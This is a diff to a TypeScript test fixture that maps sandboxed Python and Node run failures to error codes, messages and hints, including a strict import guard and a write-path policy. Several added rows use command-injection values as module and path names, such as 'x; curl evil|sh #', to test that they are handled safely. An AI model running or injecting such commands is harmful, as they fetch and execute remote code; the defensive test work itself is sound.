@@ -1,11 +1,24 @@
+import { expect } from "vitest";
 import { readReport } from "../index.ts";
 import { type EndingRow, node, policy, python, raised } from "./ending-row.ts";
+
+const strict = { ...python, policy: { ...policy, python: { ...policy.python, guard: "strict" as const } } };
+
+function allowing(...allow: string[]) {
+  return { ...python, policy: { ...policy, python: { ...policy.python, imports: { allow, block: [] } } } };
+}
+
+function refusedByGuard(facts: object): EndingRow["ending"] {
+  const guard = { code: "policy.import_denied", line: 1, column: 1, ...facts };
+  return { kind: "exited", exitCode: 1, report: readReport({ outcome: "exception", guard }) };
+}
 
 export const CODE_ENDINGS: EndingRow[] = [
   // Text and modules.
   {
     title: "a syntax error",
     ending: raised({ type: "SyntaxError", message: "invalid syntax", syntax: { line: 4, column: 9, text: "x = = 1" } }),
+    context: { ...python, source: "\n\n\n  x = = 1" },
     code: "code.syntax",
     message: "SyntaxError on line 4:9: invalid syntax",
     hint: "line 4, at: x = = 1",
@@ -174,15 +187,56 @@ export const CODE_ENDINGS: EndingRow[] = [
           name: "os",
           line: 1,
           column: 8,
-          message: "no os",
-          allowed: ["math"],
-          hint: "Use pathlib.",
+          what: "importing",
+          reason: "os",
+          advice: "never",
         },
       }),
     },
+    context: { ...strict, file: "main.py" },
     code: "policy.import_denied",
-    message: "no os",
-    hint: "Use pathlib.",
-    data: { name: "os", line: 1, column: 8, allowed: ["math"] },
+    message: 'main.py:1:8: importing "os" is refused by the strict guard',
+    hint: "Use pathlib for paths and files; the environment is not readable. The strict guard never allows it; --unsafe",
+    data: { name: "os", line: 1, column: 8, allowed: expect.arrayContaining(["math", "json", "pathlib", "pandas"]) },
+  },
+  {
+    title: "what the guard refused, and the owner may add",
+    ending: refusedByGuard({ name: "paramiko", reason: "paramiko", what: "importing", advice: "add" }),
+    context: allowing("math"),
+    code: "policy.import_denied",
+    message: '<string>:1:1: importing "paramiko" is refused by the policy (python)',
+    hint: "The owner can add it: python.imports.allow: [paramiko].",
+    data: { allowed: ["math"] },
+  },
+  {
+    title: "a name of the guard's that is none",
+    ending: refusedByGuard({ name: "x; curl evil|sh #", reason: "x", what: "importing", advice: "add" }),
+    context: allowing("math"),
+    code: "policy.import_denied",
+    message: "importing a name that can't be shown is refused",
+    hint: "The owner can add it to python.imports.allow.",
+  },
+  {
+    title: "a module whose name is a command",
+    ending: raised({ type: "ModuleNotFoundError", message: "no", module: "x; curl evil|sh #" }),
+    code: "code.import_missing",
+    message: "ModuleNotFoundError: no",
+    hint: "If it is a file of your own, put it into the workspace under the name that you import.",
+  },
+  {
+    title: "a package of Node's whose name is a command",
+    ending: raised({ type: "Error", message: "no", code: "MODULE_NOT_FOUND", module: "x;curl" }),
+    context: node,
+    code: "code.import_missing",
+    message: "Error: no",
+    hint: "If it is a file of your own",
+  },
+  {
+    title: "a path that is a command",
+    ending: raised({ type: "PermissionError", errno: 30, path: "a; curl evil|sh" }),
+    context: { ...python, policy: { ...policy, files: { ...policy.files, write: ["src/**"] } } },
+    code: "policy.path_denied",
+    message: "The policy does not allow changes to a; curl evil|sh.",
+    hint: "let the owner widen it: drydock policy allow write 'GLOB'",
   },
 ];
